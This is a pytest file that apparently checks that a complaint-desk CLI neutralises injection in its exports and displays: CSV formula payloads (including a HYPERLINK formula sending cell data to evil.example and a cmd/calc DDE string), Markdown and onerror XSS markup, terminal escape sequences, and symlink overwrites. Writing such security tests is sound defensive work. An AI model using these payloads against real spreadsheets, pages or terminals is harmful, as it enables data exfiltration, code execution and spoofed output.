"""Files and terminals: what tousu writes cannot run in a spreadsheet, render as markup,
repaint a terminal, or overwrite a file it was not asked to replace.

Attacks tried through the CLI: a summary and a field that are spreadsheet formulas
(``=HYPERLINK(...)``, ``+cmd``, ``-2+3``, ``@SUM``, a leading tab and CR) exported and
reported as CSV; Markdown links, images and HTML in a department name; a field *key* that
clears the screen or forges a history line; ``--out`` onto an existing file and through a
symbolic link.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path
from typing import Any

import pytest

from tousu.testing import org

T0 = "2026-10-01T09:00:00+08:00"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tcell", "\rcell"]


@pytest.fixture
def desk(make_desk: Any) -> Any:
    return make_desk(org("acme", ["retail"]))


def test_csv_cells_that_are_formulas_are_text(desk: Any, tmp_path: Path, figures: Any) -> None:
    for formula in FORMULAS:
        desk.json("intake", "--org", "acme", "--channel", "phone", "--summary", formula, "--field", f"note={formula}",
                  "--actor", "wang", "--at", T0)
    out = tmp_path / "acme.csv"
    assert desk.cli("export", "--org", "acme", "--format", "csv", "--out", str(out), "--actor", "wang").code == 0
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row]
    report = desk.cli("report", "--org", "acme", "--month", "2026-10", "--format", "csv", "--actor", "li").stdout
    cells += [cell for row in csv.reader(io.StringIO(report)) for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit())]
    assert dangerous == []
    assert "'=HYPERLINK(" in out.read_text(encoding="utf-8") and "'-2+3" in out.read_text(encoding="utf-8")
    # the quote is for spreadsheets only: importing the export gives back the same summaries
    again = desk.cli("import", str(out), "--org", "acme", env={"TOUSU_ACTOR": "wang"})
    assert again.code == 0, again.stderr
    figures(f"csv: {len(FORMULAS)} formula payloads in {len(cells)} exported and reported cells, 0 left as formulas")


def test_markdown_markup_from_the_register_is_escaped(desk: Any) -> None:
    cid = desk.json("intake", "--org", "acme", "--channel", "phone", "--summary", "s", "--actor", "wang", "--at", T0)["id"]
    desk.json("act", cid, "forward", "--to", "[click](http://evil.example) <img src=x onerror=alert(1)> **x**",
              "--actor", "wang", "--at", T0)
    md = desk.cli("report", "--org", "acme", "--month", "2026-10", "--format", "md", "--actor", "li").stdout
    assert "](http" not in md and "<img" not in md and "**x**" not in md


def test_a_field_key_cannot_drive_the_terminal(desk: Any) -> None:
    key = "x\x1b[2J\x1b[H\n  99  2026-10-01T09:00:00+08:00 li         close"
    cid = desk.json("intake", "--org", "acme", "--channel", "phone", "--summary", "s", "--field", f"{key}=v",
                    "--actor", "wang", "--at", T0)["id"]
    desk.json("act", cid, "note", "--note", "n", "--field", f"{key}=v", "--actor", "wang", "--at", T0)
    text = desk.cli("show", cid, "--actor", "wang").stdout
    assert "\x1b" not in text and "\n  99  " not in text


def test_out_never_overwrites_nor_follows_a_link(desk: Any, tmp_path: Path, figures: Any) -> None:
    existing = tmp_path / "existing.csv"
    existing.write_text("keep me", encoding="utf-8")
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    link = tmp_path / "link.csv"
    os.symlink(victim, link)
    commands = [["export", "--org", "acme", "--actor", "wang"],
                ["report", "--org", "acme", "--month", "2026-10", "--actor", "li"]]
    tried = 0
    for command in commands:
        assert "--force" in desk.fails(*command, "--out", str(existing), code=2)
        assert "symbolic link" in desk.fails(*command, "--out", str(link), code=2)
        assert "symbolic link" in desk.fails(*command, "--out", str(link), "--force", code=2)
        tried += 3
    assert existing.read_text(encoding="utf-8") == "keep me" and victim.read_text(encoding="utf-8") == "precious"
    for command in commands:
        assert desk.cli(*command, "--out", str(existing), "--force").code == 0
    assert existing.read_text(encoding="utf-8") != "keep me"
    figures(f"--out: {tried} overwrites and symlink writes refused, 0 files changed")
